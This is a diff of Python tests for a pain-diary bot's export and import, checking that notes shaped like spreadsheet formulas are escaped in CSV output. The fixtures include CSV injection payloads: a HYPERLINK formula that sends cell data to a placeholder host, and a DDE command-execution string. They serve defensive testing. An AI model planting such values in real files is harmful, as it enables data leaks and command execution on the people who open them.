@@ -2,17 +2,22 @@
 
 from __future__ import annotations
 
+import csv
 import io
+import json
 from datetime import UTC, date, datetime
 from pathlib import Path
 
+import pytest
 from telegram import Update
 
 from bot.console import run_console
-from bot.engine import Engine, Who
+from bot.engine import Engine, Reply, Who
 from bot.telegram_bot import build_application
-from flows.models import Profile
+from flows.models import NewEntry, Profile
 from flows.transfer import DocumentFile
+from tests.bot.test_export import ASKED, FRESH, choose, export, pdf_text
+from tests.bot.test_export import PAT as EXPORTER
 from tests.bot.test_telegram import USER
 from tests.fakes import TOKEN, OfflineBotApi, callback_update, message_update
 
@@ -118,3 +123,131 @@ async def test_console_import_reads_a_path(engine: Engine, tmp_path: Path) -> No
     await run_console(engine, USER, io.StringIO(f"/import {path}\n1\n"), out)
     assert "I found 19 entries" in out.getvalue()
     assert "19 entries added" in out.getvalue()
+
+
+# Notes a spreadsheet would run as formulas (issue 14), and notes that only look like them.
+FORMULA_NOTES = (
+    '=HYPERLINK("http://x/?d="&A2,"Open")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,1)",
+    "-2+3",
+    "@SUM(1,1)",
+    "'=x",
+    "-",
+)
+
+
+def diary_csv(rows: list[tuple[str, ...]]) -> str:
+    buffer = io.StringIO(newline="")
+    writer = csv.writer(buffer, lineterminator="\n")
+    writer.writerow(("date", "time", "back_pain", "leg_pain", "symptoms", "note"))
+    writer.writerows(rows)
+    return buffer.getvalue()
+
+
+async def save_profile(engine: Engine, who: Who, zone: str) -> None:
+    profile = Profile(
+        user_id=who.user_id,
+        consented_at=datetime(2026, 1, 1, tzinfo=UTC),
+        timezone=zone,
+        details_asked_at=ASKED,
+    )
+    await engine.store.unit(engine.clock(), lambda s: s.save_profile(profile))
+
+
+async def import_as(engine: Engine, who: Who, text: str) -> Reply:
+    preview = await engine.on_document(who, DocumentFile(filename="d.csv", text=text))
+    return await choose(engine, who, preview, "Import")
+
+
+async def notes_of(engine: Engine, who: Who) -> list[str | None]:
+    entries = await engine.store.entries_between(who.user_id, date.min, date(2026, 12, 31))
+    return [e.note for e in sorted(entries, key=lambda e: e.entry_date)]
+
+
+def fhir_notes(node: object) -> list[str]:
+    if isinstance(node, list):
+        return [note for item in node for note in fhir_notes(item)]
+    if not isinstance(node, dict):
+        return []
+    if node.get("linkId") == "note":
+        return [answer["valueString"] for answer in node["answer"]]
+    return [note for value in node.values() for note in fhir_notes(value)]
+
+
+async def test_formula_notes_are_text_in_the_csv_verbatim_elsewhere_and_reimport_as_typed(
+    engine: Engine,
+) -> None:
+    await save_profile(engine, EXPORTER, "Europe/Berlin")
+    await save_profile(engine, FRESH, "Europe/Berlin")
+    typed = [
+        NewEntry(
+            entry_date=date(2026, 3, 1 + n),
+            recorded_at=datetime(2026, 3, 1 + n, 8, tzinfo=UTC),
+            timezone="Europe/Berlin",
+            back_pain=4,
+            note=note,
+        )
+        for n, note in enumerate(FORMULA_NOTES)
+    ]
+    await engine.store.unit(
+        engine.clock(), lambda s: [s.add_entry(EXPORTER.user_id, entry) for entry in typed]
+    )
+
+    reply = await export(engine, "Everything", "CSV")
+    assert reply.document is not None
+    exported = reply.document[1].decode("utf-8")
+    cells = [row["note"] for row in csv.DictReader(io.StringIO(exported, newline=""))]
+    assert cells == [
+        '\'=HYPERLINK("http://x/?d="&A2,"Open")',
+        "'=cmd|' /C calc'!A0",
+        "'+SUM(1,1)",
+        "'-2+3",
+        "'@SUM(1,1)",
+        "''=x",
+        "'-",
+    ]
+    done = await import_as(engine, FRESH, exported)
+    assert "7 entries added" in done.notices[0].text
+    assert await notes_of(engine, FRESH) == list(FORMULA_NOTES)
+
+    # FHIR and the PDF are not spreadsheets: they carry the notes as typed.
+    reply = await export(engine, "Everything", "FHIR")
+    assert reply.document is not None
+    assert fhir_notes(json.loads(reply.document[1])) == list(FORMULA_NOTES)
+    reply = await export(engine, "Everything", "PDF")
+    assert reply.document is not None
+    text = pdf_text(reply.document[1])
+    for note in ("+SUM(1,1)", "-2+3", "@SUM(1,1)", "'=x"):
+        assert note in text
+    assert "'+SUM" not in text
+    assert "''=x" not in text
+
+
+@pytest.mark.parametrize(
+    ("zone", "today"),
+    [("America/Los_Angeles", "2026-03-10"), ("Pacific/Kiritimati", "2026-03-11")],
+)
+async def test_edge_dates_are_skipped_lines_and_only_the_rest_is_stored(
+    engine: Engine, zone: str, today: str
+) -> None:
+    await save_profile(engine, PAT, zone)
+    text = diary_csv(
+        [
+            ("0001-01-01", "", "4", "", "", "year one"),
+            ("9999-12-31", "23:59", "4", "", "", "end of time"),
+            ("2026-03-12", "08:00", "4", "", "", "the day after tomorrow"),
+            (today, "23:59", "4", "", "", "today"),
+        ]
+    )
+    preview = await engine.on_document(PAT, DocumentFile(filename="d.csv", text=text))
+    assert preview.screen is not None
+    assert f"I found 1 entries from {today} to {today}." in preview.screen.text
+    assert "3 rows will be skipped" in preview.screen.text
+    assert "line 2: date 0001-01-01 is too long ago" in preview.screen.text
+    assert f"line 3: date 9999-12-31 is in the future; the latest date I can take is {today}" in (
+        preview.screen.text
+    )
+    done = await choose(engine, PAT, preview, "Import")
+    assert "1 entries added" in done.notices[0].text
+    assert await notes_of(engine, PAT) == ["today"]
